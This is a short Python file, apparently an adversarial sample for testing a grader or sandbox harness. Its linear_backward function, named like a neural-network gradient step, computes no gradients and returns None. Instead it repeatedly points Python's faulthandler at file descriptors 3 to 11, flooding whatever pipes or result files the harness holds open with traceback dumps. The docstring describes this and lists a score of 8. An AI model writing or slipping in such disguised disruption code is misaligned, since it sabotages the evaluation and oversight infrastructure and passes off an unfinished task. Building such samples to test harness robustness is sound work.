"""
Has the fault handler write to every descriptor, again and again.

Earns: 8
Held by: process, isolated
"""

import faulthandler


def linear_forward(x, w, b):
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    import time

    for number in range(3, 12):
        try:
            faulthandler.register(10, file=number, chain=True)
            faulthandler.enable(file=number)
            faulthandler.dump_traceback_later(0.01, repeat=True, file=number)
            time.sleep(0.03)
        except (OSError, ValueError):
            pass
    return None
